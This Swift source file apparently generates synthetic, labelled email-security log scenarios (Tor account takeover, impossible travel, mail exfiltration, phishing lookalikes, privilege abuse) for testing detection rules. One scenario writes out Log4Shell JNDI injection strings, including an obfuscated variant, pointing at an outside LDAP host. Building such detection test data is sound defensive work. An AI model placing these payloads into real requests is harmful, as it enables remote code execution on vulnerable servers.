import OspreyCore

extension OrganizationGenerator {
    func block(_ kind: NetBlock.Kind, _ country: String? = nil) -> NetBlock {
        org.networks.first { $0.kind == kind && (country == nil || $0.country == country) }!
    }

    func mail(_ p: Person, _ t: Int64, to recipient: String, subject: String, attachments: [String] = [], attachmentBytes: Int = 0,
              delivered: Bool = true, direction: String = "Outbound", shape: Shape = .apiJSON) -> [(Int64, String)] {
        let m = Message(time: t, code: code(), sender: p.email, recipient: recipient, direction: direction, subject: subject,
                        attachments: attachments, attachmentBytes: attachmentBytes, bytes: attachmentBytes + 14_000,
                        sourceIP: org.networks[org.corporateBlock["US"]!].address(1), destIP: org.networks[org.mtaBlocks[0]].address(77),
                        held: false, rejected: false, delivered: delivered)
        return LogFormats.message(m, shape: shape, spaced: true)
    }

    func audit(_ p: Person, _ t: Int64, type: String, category: String, detail: String, ip: String, app: String = "Administration Console") -> (Int64, String) {
        let info = "\(detail), Date: \(UTCTime.format(t).prefix(10)), Time: \(UTCTime.format(t).dropFirst(11).prefix(8))+0000, IP: \(ip), Application: \(app)"
        return LogFormats.audit(AuditEvent(time: t, user: p.email, auditType: type, category: category, info: info),
                                shape: .apiJSON, app: app, ip: ip, success: true, spaced: true)
    }

    /// The events of one scenario and its label. Times are in the victim's working day.
    func scenario(_ spec: ScenarioSpec, victim v: Int, day d: Int) -> ([(Int64, String)], ScenarioLabel) {
        let p = org.people[v]
        let t0 = localTime(p, day: d, hour: 10.5)
        let min = Int64(60_000)
        var out: [(Int64, String)] = []
        let home = org.networks[org.corporateBlock[p.country] ?? p.homeBlock].address(v * 7)
        switch spec.id {
        case "ato-tor-forwarding":
            let tor = block(.tor).address(9)
            out.append(login(p, t0, ip: tor, app: "mimecast-moa", ua: "Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0", success: false, shape: .apiJSON))
            out.append(login(p, t0 + 2 * min, ip: tor, app: "mimecast-moa", ua: "Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0", success: true, shape: .apiJSON))
            let drop = "\(p.first.lowercased())\(p.last.lowercased()).backup@gmail.com"
            out.append(audit(p, t0 + 6 * min, type: "Mail Forwarding Rule Created", category: "account_logs",
                             detail: "Mail forwarding rule 'sync' created: forward to \(drop) (invoice, payment notifications)", ip: tor, app: "mimecast-moa"))
        case "impossible-travel":
            out.append(login(p, t0, ip: home, app: p.apps[0], ua: nil, success: true, shape: .apiJSON))
            out.append(login(p, t0 + 40 * min, ip: block(.residential, "FR").address(3), app: p.apps[0], ua: nil, success: true, shape: .apiJSON))
            out.append(login(p, t0 + 95 * min, ip: block(.residential, "JP").address(4), app: p.apps[0], ua: nil, success: true, shape: .keyValue))
        case "failed-logins-new-country":
            for k in 0..<6 {
                out.append(login(p, t0 + Int64(k) * min, ip: block(.residential, "NG").address(k), app: "mimecast-moa", ua: nil, success: false, shape: k % 2 == 0 ? .apiJSON : .keyValue))
            }
            out.append(login(p, t0 + 7 * min, ip: block(.residential, "NG").address(5), app: "mimecast-moa", ua: nil, success: true, shape: .apiJSON))
            // Inside, the intruder searches the mailbox archive for payment mail.
            let ng = block(.residential, "NG").address(5)
            out.append(audit(p, t0 + 10 * min, type: "Search Action", category: "case_review_logs",
                             detail: "Search Criteria: {\"keywords\":\"wire transfer invoice\"}", ip: ng, app: "mimecast-moa"))
            out.append((t0 + 11 * min, LogFormats.json([("createTime", LogFormats.iso(t0 + 11 * min)), ("emailAddr", p.email), ("source", "archive"),
                                                         ("searchText", "wire transfer"), ("searchReason", ""), ("description", "Archive Mailbox")])))
        case "ransomware-ip-login":
            out.append(login(p, t0, ip: block(.ransomware).address(5), app: p.apps[0], ua: nil, success: true, shape: .apiJSON))
            out += mail(p, t0 + 10 * min, to: "ops@\(rng.pick(p.partners))", subject: "Re: files")
        case "blacklisted-ip-login":
            out.append(login(p, t0, ip: block(.blacklist).address(6), app: p.apps[0], ua: nil, success: true, shape: .keyValue))
            out += mail(p, t0 + 12 * min, to: "drop@volga-files.example", subject: "documents")
        case "dormant-account-wakes":
            out.append(login(p, t0, ip: block(.residential, "BR").address(2), app: p.apps[0], ua: nil, success: true, shape: .apiJSON))
            out += mail(p, t0 + 5 * min, to: "files.drop.br@gmail.com", subject: "as discussed",
                        attachments: ["pricing-2027.xlsx"], attachmentBytes: 650_000)
        case "deactivated-account-sends":
            out.append(login(p, t0, ip: org.networks[p.homeBlock].address(v), app: p.apps[0], ua: nil, success: true, shape: .apiJSON))
            out += mail(p, t0 + 8 * min, to: "hr@\(Organization.competitors[0])", subject: "Client list as promised",
                        attachments: ["clients.xlsx"], attachmentBytes: 420_000)
        case "exec-mailbox-permission":
            for (k, exec) in org.people.filter(\.isExecutive).prefix(2).enumerated() {
                out.append(audit(p, t0 + Int64(k) * 4 * min, type: "Mailbox Delegation Permission Granted", category: "account_logs",
                                 detail: "Delegate access to \(exec.email) granted: FullAccess", ip: home))
            }
        case "large-mail-to-personal":
            for k in 0..<3 {
                out += mail(p, t0 + Int64(k) * 9 * min, to: p.personalEmail!, subject: "backup \(k + 1)",
                            attachments: ["archive-part\(k + 1).zip"], attachmentBytes: 4_200_000)
            }
        case "source-code-to-competitor":
            out += mail(p, t0, to: "cto@\(Organization.competitors[0])", subject: "what we discussed",
                        attachments: ["engine_core.py", "schema.sql", "confidential-roadmap-2027.pdf"], attachmentBytes: 900_000)
        case "disposable-domain":
            out += mail(p, t0, to: "x7k2@\(Organization.disposable[0])", subject: "customer export",
                        attachments: ["customers.csv"], attachmentBytes: 1_500_000)
            out += mail(p, t0 + 11 * min, to: "q9z1@\(Organization.disposable[1])", subject: "customer export 2",
                        attachments: ["customers-2.csv"], attachmentBytes: 1_400_000)
        case "job-seeking":
            out += mail(p, t0, to: p.personalEmail!, subject: "My resume and cover letter for the Senior Analyst position",
                        attachments: ["resume.pdf"], attachmentBytes: 120_000)
            out += mail(p, t0 + 20 * min, to: "careers@\(Organization.competitors[1])", subject: "Job application: Senior Analyst",
                        attachments: ["resume.pdf"], attachmentBytes: 120_000)
        case "exec-mail-to-webmail":
            let subjects = Array(Set(execSubjects.map { $0.hasPrefix("Re: ") ? String($0.dropFirst(4)) : $0 })).sorted().prefix(2)
            for (k, subject) in subjects.enumerated() {
                out += mail(p, t0 + Int64(k) * 7 * min, to: "board.docs.2027@yahoo.com", subject: "Fw: " + subject,
                            attachments: ["board-deck-\(k + 1).pdf"], attachmentBytes: 2_100_000)
            }
        case "repeated-failed-sends":
            for k in 0..<4 {
                out += mail(p, t0 + Int64(k) * 6 * min, to: "q3.files.transfer@gmail.com", subject: "files",
                            attachments: ["q3-financials.xlsx"], attachmentBytes: 7_500_000, delivered: false)
            }
            // Then the file goes out in parts small enough to pass.
            for k in 0..<3 {
                out += mail(p, t0 + Int64(30 + k * 4) * min, to: "q3.files.transfer@gmail.com", subject: "files part \(k + 1)",
                            attachments: ["q3-financials.part\(k + 1).zip"], attachmentBytes: 2_600_000)
            }
        case "outbound-mass-mail":
            let code = self.code()
            for k in 0..<60 {
                let m = Message(time: t0 + Int64(k) * 200, code: code, sender: p.email, recipient: "contact\(k)@list-\(k % 9).example",
                                direction: "Outbound", subject: "Special offer", bytes: 30_000,
                                sourceIP: org.networks[org.corporateBlock["US"]!].address(1), destIP: org.networks[org.mtaBlocks[0]].address(k))
                out += LogFormats.message(m, shape: .apiJSON, spaced: true).filter { !$0.1.contains("\"AttCnt\"") || $0.1.contains("\"Rcpt\"") }
            }
        case "log4j-strings":
            let m = Message(time: t0, code: code(), sender: "scanner@probe.example", recipient: p.email, direction: "Inbound",
                            subject: "${jndi:ldap://198.51.100.7:1389/a}", bytes: 4_000, sourceIP: block(.blacklist).address(8), destIP: "100.64.0.25")
            out += LogFormats.message(m, shape: .apiJSON, spaced: true)
            out.append(login(p, t0 + 3 * min, ip: home, app: p.apps[0], ua: "${${lower:j}ndi:${lower:l}dap://198.51.100.7/x}", success: true, shape: .apiJSON))
            out.append(login(p, t0 + 4 * min, ip: home, app: p.apps[0], ua: "${jndi:ldap://198.51.100.7:1389/Basic/Command}", success: true, shape: .apiJSON))
        case "non-privileged-admin-action":
            for (k, op) in [("Policy Definition Changed", "Anti-spoofing policy bypass added"), ("User Role Changed", "Role Basic Administrator granted"),
                            ("Connectors Management", "API application created")].enumerated() {
                out.append(audit(p, t0 + Int64(k) * 3 * min, type: op.0, category: "policy_logs", detail: op.1, ip: home))
            }
        case "phishing-lookalike-reply":
            out.append(LogFormats.urlClick(time: t0 - 30 * min, user: p.email, sender: "billing@supplier-billing.example",
                                           url: "https://supplier-billing.example.portal-login.example/auth", verdict: "clean", category: "Uncategorized",
                                           ip: block(.hosting).address(4), shape: .apiJSON, spaced: true))
            out.append(login(p, t0 - 10 * min, ip: block(.hosting).address(5), app: p.apps[0], ua: nil, success: true, shape: .apiJSON))
            out += mail(p, t0, to: "accounts@supplier-billing.example", subject: "Re: overdue invoice - wire transfer details",
                        attachments: ["bank-details.pdf"], attachmentBytes: 90_000)
            // The attacker then mails customers the "new" bank details from the trusted account.
            for (k, customer) in ["ap@harbor-logistics.example", "finance@meadow-foods.example"].enumerated() {
                out += mail(p, t0 + Int64(6 + 3 * k) * min, to: customer, subject: "Updated remittance details",
                            attachments: ["new-bank-details.pdf"], attachmentBytes: 85_000)
            }
        default:
            out = singleSignal(spec.id, p, victim: v, t0: t0) ?? []
        }
        let times = out.map(\.0)
        let label = ScenarioLabel(id: spec.id, description: spec.description, user: p.email,
                                  start: (times.min() ?? t0) - 5 * min, end: (times.max() ?? t0) + 5 * min,
                                  expectedRules: spec.expected, useCase: spec.useCase, useCases: [spec.useCase] + spec.also, mitre: spec.mitre)
        return (out, label)
    }
}
